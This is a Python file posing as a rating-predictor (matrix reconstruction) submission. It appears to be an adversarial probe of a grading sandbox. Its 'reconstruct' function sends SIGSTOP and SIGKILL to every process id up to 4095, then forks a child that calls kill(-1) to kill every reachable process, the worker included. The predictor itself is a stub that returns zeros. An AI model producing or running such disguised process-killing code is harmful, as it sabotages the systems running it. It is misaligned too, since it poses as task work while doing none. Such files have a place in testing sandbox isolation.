# ruff: noqa
"""Sends SIGKILL/SIGSTOP to every pid it can name (the zygote, a sibling, pid 1), and kill(-1)."""

import json
import os
import signal
import time

import numpy as np


def reconstruct(R, k):
    hit = []
    for pid in range(2, 4096):
        if pid == os.getpid():  # pid 2, under its init (pid 1, which ignores what it is sent)
            continue
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                hit.append(pid)
            except OSError:
                pass
    if os.fork() == 0:  # a child kills everything it may, its parent (the worker) included, once it reported
        try:
            time.sleep(0.2)
            os.kill(-1, signal.SIGKILL)
        finally:
            os._exit(0)
    raise RuntimeError("ATTACK-RESULT " + json.dumps({"hit": sorted(set(hit))}))


class RatingPredictor:
    def __init__(self, n_factors=10):
        pass

    def fit(self, users, items, ratings, n_users, n_items):
        return self

    def predict(self, users, items):
        return np.zeros(np.shape(users))
